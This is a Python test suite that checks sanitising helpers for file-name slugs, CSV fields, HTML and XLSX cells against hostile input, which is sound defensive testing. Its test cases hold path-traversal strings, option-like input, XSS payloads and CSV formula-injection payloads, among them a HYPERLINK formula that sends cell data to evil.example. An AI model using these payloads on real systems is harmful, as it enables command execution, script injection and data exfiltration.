"""Untrusted text against the output helpers: traversal, reserved names, length, unicode tricks.

The laws: a slug is always a plain, bounded, non-reserved file stem that stays in
its directory; an inert CSV field never starts with a formula trigger, and a
spreadsheet reading the CSV back sees the original text after the quote; HTML
text never carries markup.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jobzone.engine.core.text_safety import (
    FORMULA_TRIGGERS,
    MAX_SLUG,
    WINDOWS_RESERVED,
    html_text,
    inert_csv,
    slug,
    xlsx_text,
)

SLUG = re.compile(r"[a-z0-9]+(?:-[a-z0-9]+)*")
any_text = st.text(max_size=300)


@pytest.mark.parametrize(("text", "expected"), [
    ("..\\..\\windows\\system32", "windows-system32"),
    ("/etc/passwd", "etc-passwd"),
    ("~/.ssh/authorized_keys", "ssh-authorized-keys"),
    ("．．／．．／etc", "etc"),                   # fullwidth dots and slash (NFKD folds them)
    ("nul", "assessment-nul"),
    ("LPT9", "assessment-lpt9"),
    ("COM¹", "assessment-com1"),                 # superscript one folds to a reserved name
    ("con.txt", "con-txt"),                      # no dot survives, so no reserved stem
    ("evil\u202etxt.exe", "eviltxt-exe"),          # right-to-left override dropped
    ("a\x00b", "a-b"),
    ("\u200b\u200d", "assessment"),              # zero-width only
    ("工程师", "assessment"),                      # nothing ASCII survives: the fallback
    ("Ingeniero de Datos – Sénior", "ingeniero-de-datos-senior"),
    ("-rf --no-preserve-root", "rf-no-preserve-root"),  # never starts like an option
])
def test_hostile_titles_become_plain_file_stems(text: str, expected: str) -> None:
    assert slug(text) == expected


@given(any_text)
def test_every_slug_is_a_plain_bounded_stem_that_stays_in_its_directory(text: str) -> None:
    stem = slug(text)
    assert SLUG.fullmatch(stem), stem
    assert 0 < len(stem) <= MAX_SLUG
    assert stem not in WINDOWS_RESERVED
    out = Path("/srv/out")
    assert (out / f"{stem}.xlsx").resolve().parent == out.resolve()


@given(st.text(alphabet="-.", max_size=200), st.integers(1, 120))
def test_slugs_of_only_separators_fall_back(text: str, length: int) -> None:
    assert slug(text, max_length=length) == "assessment"


@given(any_text)
def test_inert_csv_fields_never_start_a_formula_and_keep_the_text(text: str) -> None:
    field = inert_csv(text)
    assert not field.startswith(FORMULA_TRIGGERS)
    assert field in (text, "'" + text)
    buffer = io.StringIO()
    csv.writer(buffer).writerow([field, "x"])
    buffer.seek(0)
    assert next(csv.reader(buffer))[0] == field


@pytest.mark.parametrize("payload", [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=IMPORTXML(\"http://x\",\"//a\")",
])
def test_known_injection_payloads_are_disarmed(payload: str) -> None:
    assert inert_csv(payload) == "'" + payload


@given(any_text)
def test_html_text_never_carries_markup(text: str) -> None:
    escaped = html_text(text)
    assert not set("<>\"'") & set(escaped)
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", escaped)


@pytest.mark.parametrize("payload", ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
                                     "</script><script>alert(1)</script>", "' onmouseover='x"])
def test_html_payloads_are_escaped(payload: str) -> None:
    assert "<" not in html_text(payload) and "\"" not in html_text(payload)


@given(st.text(max_size=40_000))
def test_xlsx_text_is_bounded_and_xml_safe(text: str) -> None:
    cell = xlsx_text(text)
    assert len(cell) <= 32_767
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", cell)
